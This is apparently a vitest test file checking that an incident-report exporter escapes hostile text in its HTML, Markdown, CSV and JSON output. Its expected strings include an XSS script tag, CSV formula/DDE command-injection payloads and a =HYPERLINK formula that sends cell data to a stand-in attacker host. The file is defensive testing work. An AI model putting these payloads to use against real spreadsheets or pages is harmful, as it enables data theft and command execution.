import { describe, expect, it } from 'vitest';
import { buildReport, readReportFile, renderReportHtml } from '../../src/domain/report';
import { CORPUS, hostileIncident } from './injection';
import { exportAll, parseCsv, unescapeMarkdown, visibleText } from './support';

const TAGS = new Set([
  'html',
  'head',
  'meta',
  'title',
  'style',
  'body',
  'header',
  'section',
  'h1',
  'h2',
  'h3',
  'p',
  'dl',
  'dt',
  'dd',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'ul',
  'li',
  'del',
  'span',
  'strong',
]);
const ATTRIBUTES = new Set(['lang', 'charset', 'http-equiv', 'content', 'name', 'id', 'class', 'data-testid', 'data-step', 'colspan']);

describe.each(['en', 'zh-CN'] as const)('hostile text in every field comes out inert (%s)', (language) => {
  const input = hostileIncident(language);
  const { html, markdown, csv, json } = exportAll(input);

  it('HTML: only the report’s own tags and attributes, every payload shown as text', () => {
    const body = html.replace(/<style>[\s\S]*?<\/style>/, '<style></style>');
    for (const m of body.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)) {
      expect(TAGS, m[0]).toContain(m[1]?.toLowerCase());
      const attributes = m[2] ?? '';
      for (const a of attributes.matchAll(/\s([a-zA-Z-]+)="[^"]*"/g)) expect(ATTRIBUTES, m[0]).toContain(a[1]?.toLowerCase());
      expect(attributes.replace(/\s([a-zA-Z-]+)="[^"]*"/g, '').trim(), m[0]).toBe('');
    }
    expect(body).not.toMatch(/<script|<img|<svg|<a\s|<b>|javascript:[^<]*"/i);
    expect(html.match(/<\/style/gi)).toHaveLength(1);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`);
    const text = visibleText(html);
    for (const c of CORPUS)
      expect(text).toContain(
        c
          .split(/\r?\n|\r|\t/)
          .filter(Boolean)[0]!
          .trim(),
      );
  });

  it('HTML: the title in the page footer cannot close the CSS string or the style element', () => {
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? '';
    const footer = /@bottom-left \{ content: "((?:[^"\\]|\\.)*)";/.exec(style);
    expect(footer, 'footer content is one CSS string').not.toBeNull();
    expect(style).not.toMatch(/<\/|<script/i);
  });

  it('Markdown: no raw HTML, no links or images, no extra table cells or lines', () => {
    expect(markdown).not.toContain('<');
    expect(markdown).not.toMatch(/(?<!\\)\]\(/);
    expect(markdown).not.toMatch(/(?<!\\)!\[/);
    expect(markdown.replace(/`[0-9a-f]{64}`/g, '')).not.toMatch(/(?<!\\)`/); // the only code spans are the final hash
    const lines = markdown.split('\n');
    let columns = 0;
    for (const line of lines) {
      if (!line.startsWith('|')) {
        columns = 0;
        // A line of text never starts with Markdown syntax unless the report put it there.
        expect(line, line).toMatch(/^(#{1,3} |- |\*\*|_|[^#>\-+=|`*_0-9[!<]|[0-9](?![0-9]*[.)] )|$)/);
        continue;
      }
      const cells = line.split(/(?<!\\)\|/).length;
      if (columns === 0) columns = cells;
      expect(cells, line).toBe(columns);
    }
    const text = unescapeMarkdown(markdown);
    expect(text).toContain('=HYPERLINK("http://evil.example/?d="&A1,"Click for details")');
    expect(text).toContain('<script>window.__pwned = 1</script>');
  });

  it('CSV: no cell starts with a formula character, every row has four cells, payloads kept after the apostrophe', () => {
    const rows = parseCsv(csv.slice(1));
    expect(rows.length).toBe(1 + input.events.length);
    for (const row of rows) {
      expect(row).toHaveLength(4);
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
    const cells = rows.flat();
    expect(cells).toContain("'+cmd|' /C calc'!A0");
    expect(cells).toContain("'-2+3+cmd|' /C calc'!A0");
    expect(cells).toContain("'\t=1+1");
    expect(cells.some((c) => c.startsWith("'=HYPERLINK") || c.includes('=HYPERLINK'))).toBe(true);
  });

  it('JSON: valid, every payload kept byte for byte, and a report rebuilt from it is as inert', () => {
    const file = readReportFile(json);
    expect(file.ok).toBe(true);
    if (!file.ok) return;
    const notes = file.events.flatMap((e) => (e.type === 'note.added' ? [e.payload.text] : []));
    for (const c of CORPUS) expect(notes).toContain(c);
    const again = renderReportHtml(buildReport({ ...input, events: file.events, dutyEvents: file.events }));
    expect(again).toBe(html);
  });
});
